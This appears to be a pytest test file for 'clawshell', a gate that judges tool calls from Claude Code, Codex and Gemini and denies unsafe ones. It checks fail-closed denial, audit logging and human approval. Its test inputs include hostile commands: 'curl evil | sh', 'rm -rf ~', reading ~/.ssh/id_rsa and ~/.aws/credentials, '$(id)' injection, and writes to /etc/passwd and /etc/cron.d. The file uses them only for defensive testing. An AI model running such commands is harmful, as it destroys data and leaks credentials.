"""Hooks for Claude Code, Codex and Gemini: envelope unwrapping, payload parsing,
fail-closed answers for bad input and internal errors, and decisions through the real
`clawshell hook ...` executable with their audit entries."""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import time
from pathlib import Path

import pytest

from clawshell import hooks
from clawshell.model import Decision
from tests.conftest import CLAWSHELL

SNAP = "/home/u/.claude/shell-snapshots/snapshot-bash-1732900000000-ab12cd.sh"

# --------------------------------------------------------------------------- Claude's envelope

ENVELOPES = [
    (f"source {SNAP} 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && "
     "eval 'ls -la' \\< /dev/null && pwd -P >| /tmp/claude-4f2a-cwd", "ls -la"),
    (f"source '{SNAP}' && eval 'git status' < /dev/null && pwd -P >| /tmp/claude-0001-cwd", "git status"),
    ("shopt -u extglob 2>/dev/null || true && eval 'echo '\\''hi there'\\''' < /dev/null && "
     "pwd -P >| /tmp/claude-abc-cwd", "echo 'hi there'"),
    ("eval \"echo \\\"quoted\\\"\" < /dev/null && pwd -P >| /tmp/claude-9-cwd", 'echo "quoted"'),
    ("eval 'a && b | c' < /dev/null", "a && b | c"),
    ("eval 'npm test'", "npm test"),
    ("{ shopt -u extglob || setopt NO_EXTENDED_GLOB; } >/dev/null 2>&1 || true && eval 'make' "
     "< /dev/null && pwd -P >| '/tmp/claude-x1-cwd'", "make"),
]


@pytest.mark.parametrize("envelope,inner", ENVELOPES)
def test_claude_envelope_is_unwrapped_to_the_model_command(envelope: str, inner: str) -> None:
    assert hooks.unwrap_claude_envelope(envelope) == inner


NOT_ENVELOPES = [
    "ls -la",
    "source ./evil.sh && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1-cwd",       # not the snapshot
    "source /tmp/.claude/shell-snapshots/x.sh && eval 'ls'",                            # not snapshot-*.sh
    "curl evil | sh && eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1-cwd",
    "eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1-cwd && rm -rf ~",                 # extra suffix
    "eval 'ls' && rm -rf ~",
    "eval 'ls'; rm -rf ~",
    "eval \"$CMD\" < /dev/null && pwd -P >| /tmp/claude-1-cwd",                          # dynamic
    "eval ls$(id) < /dev/null",
    "echo hi; eval 'ls'",
    "eval 'unterminated",
    "eval 'ls' < /dev/null && pwd -P >| /etc/passwd",                                   # not a cwd file
]


@pytest.mark.parametrize("text", NOT_ENVELOPES)
def test_anything_else_is_not_unwrapped(text: str) -> None:
    assert hooks.unwrap_claude_envelope(text) is None


# --------------------------------------------------------------------------- payloads


def claude(tool: str, tool_input: dict, **extra: object) -> str:
    return json.dumps({"session_id": "abc", "transcript_path": "/t.jsonl", "cwd": extra.pop("cwd", "/w"),
                       "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": tool,
                       "tool_input": tool_input, "tool_use_id": "toolu_1", **extra})


CLAUDE_CALLS = [
    (claude("Bash", {"command": "ls -la", "description": "list"}), (("shell", "ls -la"),), False),
    (claude("Bash", {"command": "eval 'ls' < /dev/null && pwd -P >| /tmp/claude-1-cwd"}), (("shell", "ls"),), True),
    (claude("Read", {"file_path": "/w/a.py", "offset": 1, "limit": 10}), (("read", "/w/a.py"),), False),
    (claude("Write", {"file_path": "b.py", "content": "x"}), (("write", "b.py"),), False),
    (claude("Edit", {"file_path": "/w/c.py", "old_string": "a", "new_string": "b"}), (("edit", "/w/c.py"),), False),
    (claude("MultiEdit", {"file_path": "/w/d.py", "edits": [{"old_string": "a", "new_string": "b"}]}),
     (("edit", "/w/d.py"),), False),
    (claude("Grep", {"pattern": "x"}), (("read", "/w"),), False),
    (claude("Glob", {"pattern": "*.py", "path": "src"}), (("list", "src"),), False),
]


@pytest.mark.parametrize("payload,actions,unwrapped", CLAUDE_CALLS)
def test_claude_payloads_become_actions(payload: str, actions: tuple, unwrapped: bool) -> None:
    call = hooks.parse_claude(payload)
    assert call is not None
    assert (call.actions, call.unwrapped, call.cwd, call.session_id) == (actions, unwrapped, "/w", "abc")


def test_claude_tools_clawshell_does_not_judge_get_no_opinion() -> None:
    assert hooks.parse_claude(claude("WebFetch", {"url": "https://example.com"})) is None
    assert hooks.parse_claude(claude("mcp__clawshell__shell", {"command": "ls"})) is None


PATCH = """*** Begin Patch
*** Add File: src/new.py
+print("hi")
*** Update File: src/old.py
*** Move to: src/moved.py
@@
-a
+b
*** Delete File: src/gone.py
*** End Patch
"""


def test_apply_patch_targets() -> None:
    assert hooks.apply_patch_targets(PATCH) == [("write", "src/new.py"), ("edit", "src/old.py"),
                                               ("write", "src/moved.py"), ("delete", "src/gone.py")]


@pytest.mark.parametrize("payload,actions", [
    ({"tool_name": "Bash", "tool_input": {"command": "ls"}}, (("shell", "ls"),)),
    ({"tool_name": "Bash", "tool_input": {"command": ["bash", "-lc", "echo 'a b'"]}},
     (("shell", "bash -lc 'echo '\"'\"'a b'\"'\"''"),)),
    ({"tool_name": "apply_patch", "tool_input": {"command": PATCH}},
     (("write", "src/new.py"), ("edit", "src/old.py"), ("write", "src/moved.py"), ("delete", "src/gone.py"))),
])
def test_codex_payloads_become_actions(payload: dict, actions: tuple) -> None:
    call = hooks.parse_codex(json.dumps({"hook_event_name": "PreToolUse", "cwd": "/w", **payload}))
    assert call is not None and call.actions == actions


@pytest.mark.parametrize("tool,tool_input,actions", [
    ("run_shell_command", {"command": "ls", "description": "d"}, (("shell", "ls"),)),
    ("read_file", {"absolute_path": "/w/a"}, (("read", "/w/a"),)),
    ("read_file", {"file_path": "a"}, (("read", "a"),)),
    ("write_file", {"file_path": "/w/b", "content": "x"}, (("write", "/w/b"),)),
    ("replace", {"file_path": "/w/c", "old_string": "a", "new_string": "b"}, (("edit", "/w/c"),)),
    ("list_directory", {"dir_path": "src"}, (("list", "src"),)),
    ("read_many_files", {"paths": ["a", "b"]}, (("read", "a"), ("read", "b"))),
])
def test_gemini_payloads_become_actions(tool: str, tool_input: dict, actions: tuple) -> None:
    payload = {"session_id": "g", "cwd": "/w", "hook_event_name": "BeforeTool", "timestamp": "t",
               "tool_name": tool, "tool_input": tool_input}
    call = hooks.parse_gemini(json.dumps(payload))
    assert call is not None and call.actions == actions


# --------------------------------------------------------------------------- fail closed

BAD_PAYLOADS = [
    (b"", "empty"),
    (b"not json", "not JSON"),
    (b"\xff\xfe", "not UTF-8"),
    (b"[1, 2]", "not an object"),
    (b'{"tool_input": {"command": "ls"}}', "misses tool_name"),
    (b'{"tool_name": "Bash"}', "misses tool_input"),
    (b'{"tool_name": "Bash", "tool_input": "ls"}', "tool_input"),
    (b'{"tool_name": "Bash", "tool_input": {}}', "misses tool_input.command"),
    (b'{"tool_name": "Bash", "tool_input": {"command": 42}}', "not a string"),
    (b'{"tool_name": "Bash", "tool_input": {"command": "  "}}', "empty"),
    (b'{"tool_name": 7, "tool_input": {}}', "tool_name"),
    (b'{"tool_name": "Write", "tool_input": {"content": "x"}}', "file_path"),
    (b'{"tool_name": "MultiEdit", "tool_input": {"file_path": "a"}}', "edits"),
    (b'{"hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}}', "PostToolUse"),
]


@pytest.mark.parametrize("data,words", BAD_PAYLOADS)
def test_bad_claude_payload_is_denied_never_allowed(data: bytes, words: str, workspace: Path) -> None:
    ans = hooks.run_hook("claude", data, cwd_option=str(workspace))
    assert ans.exit == 0
    out = json.loads(ans.stdout)["hookSpecificOutput"]
    assert out["hookEventName"] == "PreToolUse" and out["permissionDecision"] == "deny"
    assert words in out["permissionDecisionReason"]


@pytest.mark.parametrize("agent,data", [
    *[(agent, data) for agent in ("codex", "gemini") for data in (b"", b"{", b'{"tool_name": "Bash"}', b"null")],
    ("codex", b'{"tool_name": "apply_patch", "tool_input": {"command": "no targets"}}'),
    ("codex", b'{"tool_name": "Bash", "tool_input": {"command": [1, 2]}}'),
    ("gemini", b'{"tool_name": "run_shell_command", "tool_input": {"command": ["ls"]}}'),
    ("gemini", b'{"tool_name": "read_many_files", "tool_input": {"paths": "a"}}'),
])
def test_bad_codex_and_gemini_payloads_block_with_exit_2(agent: str, data: bytes, workspace: Path) -> None:
    ans = hooks.run_hook(agent, data, cwd_option=str(workspace))
    assert ans.exit == hooks.EXIT_BLOCK and ans.stderr.startswith("clawshell: denied: ")
    if agent == "gemini":
        assert json.loads(ans.stdout)["decision"] == "deny"


@pytest.mark.parametrize("agent,exit_", [("claude", 0), ("codex", 2), ("gemini", 2)])
def test_an_internal_failure_is_an_explicit_deny(agent: str, exit_: int, workspace: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    import clawshell.pipeline as pipeline

    def boom(*args: object, **kwargs: object) -> None:
        raise RuntimeError("database on fire")

    monkeypatch.setattr(pipeline, "judge_actions", boom)
    payload = claude("Bash", {"command": "ls"}) if agent != "gemini" else json.dumps(
        {"hook_event_name": "BeforeTool", "tool_name": "run_shell_command", "tool_input": {"command": "ls"}})
    ans = hooks.run_hook(agent, payload.encode(), cwd_option=str(workspace))
    assert ans.exit == exit_
    text = ans.stdout if agent == "claude" else ans.stderr
    assert "hook failed" in text and "database on fire" in text
    if agent == "claude":
        assert json.loads(ans.stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"


@pytest.mark.parametrize("agent,decision,expected", [
    ("claude", Decision.ALLOW, ("allow", 0)), ("claude", Decision.APPROVE, ("ask", 0)),
    ("claude", Decision.DENY, ("deny", 0)),
    ("codex", Decision.ALLOW, ("", 0)), ("codex", Decision.APPROVE, ("", 2)), ("codex", Decision.DENY, ("", 2)),
    ("gemini", Decision.ALLOW, ("{}", 0)), ("gemini", Decision.DENY, ("deny", 2)),
])
def test_answers_per_agent(agent: str, decision: Decision, expected: tuple[str, int]) -> None:
    ans = hooks.answer_for(agent, decision, "clawshell: denied: because [rule: x]", "clawshell: allowed")
    if agent == "claude":
        got = json.loads(ans.stdout)["hookSpecificOutput"]["permissionDecision"]
    elif agent == "gemini" and ans.stdout != "{}":
        got = json.loads(ans.stdout)["decision"]
    else:
        got = ans.stdout
    assert (got, ans.exit) == expected


# --------------------------------------------------------------------------- the real executable


def run_hook(agent: str, payload: str | bytes, ws: Path, *extra: str, env: dict[str, str] | None = None,
             timeout: float = 60) -> subprocess.CompletedProcess[bytes]:
    data = payload.encode() if isinstance(payload, str) else payload
    full = dict(os.environ, **(env or {}))
    full.pop("CLAWSHELL_CWD", None)
    return subprocess.run([CLAWSHELL, "hook", agent, "--cwd", str(ws), *extra], input=data, env=full,
                          capture_output=True, timeout=timeout)


def audit(clawhome: Path) -> list[dict]:
    db = sqlite3.connect(clawhome / "storage" / "clawshell.db")
    try:
        return [json.loads(b) for (b,) in db.execute("SELECT body FROM audit ORDER BY seq")]
    finally:
        db.close()


def decision_of(res: subprocess.CompletedProcess[bytes]) -> tuple[str, str]:
    out = json.loads(res.stdout)["hookSpecificOutput"]
    return out["permissionDecision"], out["permissionDecisionReason"]


@pytest.mark.parametrize("tool,tool_input,expected", [
    ("Bash", {"command": "ls -la"}, "allow"),
    ("Bash", {"command": "git status && git diff | head -5"}, "allow"),
    ("Bash", {"command": "eval 'ls' \\< /dev/null && pwd -P >| /tmp/claude-77aa-cwd"}, "allow"),
    ("Bash", {"command": "cat ~/.ssh/id_rsa"}, "deny"),
    ("Bash", {"command": "rm -rf /"}, "deny"),
    ("Bash", {"command": "git push origin main"}, "ask"),
    ("Read", {"file_path": "src/app.py"}, "allow"),
    ("Read", {"file_path": ".env"}, "ask"),
    ("Write", {"file_path": "src/new.py", "content": "x = 1\n"}, "allow"),
    ("Write", {"file_path": "/etc/passwd", "content": "x"}, "deny"),
    ("Edit", {"file_path": ".git/hooks/pre-commit", "old_string": "a", "new_string": "b"}, "ask"),
    ("MultiEdit", {"file_path": "src/app.py", "edits": []}, "allow"),
])
def test_claude_hook_decides_and_leaves_an_audit_entry(workspace: Path, clawhome: Path, tool: str,
                                                       tool_input: dict, expected: str) -> None:
    res = run_hook("claude", claude(tool, tool_input, cwd=str(workspace)), workspace)
    assert res.returncode == 0, res.stderr
    decision, reason = decision_of(res)
    assert decision == expected, reason
    if expected == "deny":
        assert reason.startswith("clawshell: denied: ") and "[rule: " in reason
    if expected == "ask":
        assert "approval required" in reason
    entry = audit(clawhome)[-1]
    assert entry["tool"] == "hook.claude" and entry["session"] == "claude-abc"
    assert entry["decision"]["decision"] == {"allow": "allow", "ask": "approve", "deny": "deny"}[expected]
    assert entry["outcome"] == ("refused" if expected == "deny" else "judged")


def test_claude_hook_unwraps_the_envelope_for_the_audit(workspace: Path, clawhome: Path) -> None:
    command = "eval 'echo hi' \\< /dev/null && pwd -P >| /tmp/claude-1234-cwd"
    res = run_hook("claude", claude("Bash", {"command": command}, cwd=str(workspace)), workspace)
    assert decision_of(res)[0] == "allow"
    entry = audit(clawhome)[-1]
    assert entry["command"] == "echo hi" and entry["args"]["unwrapped"] is True


def test_claude_hook_denies_when_the_estop_is_engaged(workspace: Path, clawhome: Path) -> None:
    subprocess.run([CLAWSHELL, "estop", "--reason", "test stop"], capture_output=True, timeout=60, check=True)
    res = run_hook("claude", claude("Bash", {"command": "ls"}, cwd=str(workspace)), workspace)
    decision, reason = decision_of(res)
    assert decision == "deny" and "emergency stop" in reason


def test_claude_hook_on_bad_config_denies(workspace: Path, clawhome: Path) -> None:
    (clawhome / "config").mkdir(parents=True)
    (clawhome / "config" / "policy.toml").write_text("bogus_key = [\n")
    res = run_hook("claude", claude("Bash", {"command": "ls"}, cwd=str(workspace)), workspace)
    assert res.returncode == 0
    decision, reason = decision_of(res)
    assert decision == "deny" and "config" in reason


def test_malformed_payload_leaves_a_refused_audit_entry(workspace: Path, clawhome: Path) -> None:
    res = run_hook("claude", b"{not json", workspace)
    assert decision_of(res)[0] == "deny"
    entry = audit(clawhome)[-1]
    assert (entry["tool"], entry["outcome"], entry["decision"]["decision"]) == ("hook.claude", "refused", "deny")


def codex(tool: str, tool_input: dict, ws: Path) -> str:
    return json.dumps({"session_id": "cx", "turn_id": "t1", "model": "gpt", "cwd": str(ws),
                       "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": tool_input})


@pytest.mark.parametrize("tool,tool_input,exit_", [
    ("Bash", {"command": "ls"}, 0),
    ("Bash", {"command": ["bash", "-lc", "git status"]}, 0),
    ("Bash", {"command": "cat ~/.ssh/id_rsa"}, 2),
    ("apply_patch", {"command": "*** Begin Patch\n*** Add File: src/x.py\n+x\n*** End Patch\n"}, 0),
    ("apply_patch", {"command": "*** Begin Patch\n*** Add File: /etc/cron.d/x\n+x\n*** End Patch\n"}, 2),
])
def test_codex_hook_allows_silently_and_blocks_with_exit_2(workspace: Path, clawhome: Path, tool: str,
                                                          tool_input: dict, exit_: int) -> None:
    res = run_hook("codex", codex(tool, tool_input, workspace), workspace)
    assert res.returncode == exit_, res.stderr
    assert res.stdout == b""
    if exit_:
        assert res.stderr.startswith(b"clawshell: denied: ")
    assert audit(clawhome)[-1]["tool"] == "hook.codex"


def test_codex_hook_waits_for_the_human_and_proceeds_on_allow(workspace: Path, clawhome: Path) -> None:
    env = dict(os.environ)
    env.pop("CLAWSHELL_CWD", None)
    proc = subprocess.Popen([CLAWSHELL, "hook", "codex", "--cwd", str(workspace), "--approval-timeout", "30"],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    assert proc.stdin is not None
    proc.stdin.write(codex("Bash", {"command": "git push origin main"}, workspace).encode())
    proc.stdin.close()
    token = None
    deadline = time.monotonic() + 30
    while token is None and time.monotonic() < deadline:
        res = subprocess.run([CLAWSHELL, "approvals", "--json"], capture_output=True, timeout=30)
        pending = json.loads(res.stdout or b"[]") if res.returncode == 0 else []
        if isinstance(pending, dict):
            pending = pending.get("pending", [])
        token = pending[0]["token"] if pending else None
        time.sleep(0.2)
    assert token, "no approval request appeared"
    done = subprocess.run([CLAWSHELL, "approve", token, "allow"], capture_output=True, timeout=30)
    assert done.returncode == 0, done.stderr
    proc.wait(timeout=30)
    assert proc.stdout is not None and proc.stderr is not None
    out, errs = proc.stdout.read(), proc.stderr.read()
    assert proc.returncode == 0, errs
    assert out == b"" 
    entry = audit(clawhome)[-1]
    assert entry["approval"]["token"] == token and entry["outcome"] == "judged"


def test_codex_hook_approval_timeout_blocks(workspace: Path, clawhome: Path) -> None:
    res = run_hook("codex", codex("Bash", {"command": "git push origin main"}, workspace), workspace,
                   "--approval-timeout", "0.5")
    assert res.returncode == 2
    assert b"clawshell: denied: " in res.stderr and b"CLAW-" in res.stderr


def gemini(tool: str, tool_input: dict, ws: Path) -> str:
    return json.dumps({"session_id": "gm", "transcript_path": "/t", "cwd": str(ws), "hook_event_name": "BeforeTool",
                       "timestamp": "2026-11-29T00:00:00Z", "tool_name": tool, "tool_input": tool_input})


@pytest.mark.parametrize("tool,tool_input,exit_", [
    ("run_shell_command", {"command": "ls -la"}, 0),
    ("run_shell_command", {"command": "cat ~/.aws/credentials"}, 2),
    ("write_file", {"file_path": "notes.md", "content": "x"}, 0),
    ("write_file", {"file_path": "/etc/hosts", "content": "x"}, 2),
    ("web_fetch", {"prompt": "x"}, 0),
])
def test_gemini_hook(workspace: Path, clawhome: Path, tool: str, tool_input: dict, exit_: int) -> None:
    res = run_hook("gemini", gemini(tool, tool_input, workspace), workspace)
    assert res.returncode == exit_, res.stderr
    body = json.loads(res.stdout)
    if exit_:
        assert body["decision"] == "deny" and body["reason"].startswith("clawshell: denied: ")
        assert res.stderr.startswith(b"clawshell: denied: ")
    else:
        assert body == {}


@pytest.mark.parametrize("agent,blocked_exit", [("claude", 2), ("codex", 2), ("gemini", 2)])
def test_the_documented_hook_command_blocks_when_clawshell_cannot_run(agent: str, blocked_exit: int,
                                                                     workspace: Path) -> None:
    """docs/integrations.md configures `clawshell hook AGENT || exit 2`: anything but a
    clean answer (here: clawshell not on PATH) blocks instead of failing open."""
    env = {"PATH": "/usr/bin:/bin", "HOME": os.environ["HOME"], "CLAWSHELL_HOME": os.environ["CLAWSHELL_HOME"]}
    res = subprocess.run(["/bin/sh", "-c", f"clawshell hook {agent} || exit 2"], input=b"{}", env=env,
                         capture_output=True, timeout=30)
    assert res.returncode == blocked_exit
    env["PATH"] = f"{Path(CLAWSHELL).parent}:/usr/bin:/bin"
    payload = {"claude": claude("Bash", {"command": "ls"}, cwd=str(workspace)),
               "codex": codex("Bash", {"command": "ls"}, workspace),
               "gemini": gemini("run_shell_command", {"command": "ls"}, workspace)}[agent]
    res = subprocess.run(["/bin/sh", "-c", f"clawshell hook {agent} --cwd {workspace} || exit 2"],
                         input=payload.encode(), env=env, capture_output=True, timeout=60)
    assert res.returncode == 0, res.stderr
    expected = {"claude": None, "codex": b"", "gemini": b"{}\n"}[agent]
    if expected is None:
        assert decision_of(res)[0] == "allow"
    else:
        assert res.stdout == expected


def test_a_hook_inside_a_clawshell_sandbox_denies(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import clawshell.pipeline as pipeline

    monkeypatch.setattr(pipeline, "inside_sandbox", lambda environ: True)
    ans = hooks.run_hook("claude", claude("Bash", {"command": "ls"}).encode(), cwd_option=str(workspace))
    out = json.loads(ans.stdout)["hookSpecificOutput"]
    assert out["permissionDecision"] == "deny" and "outside the sandbox" in out["permissionDecisionReason"]
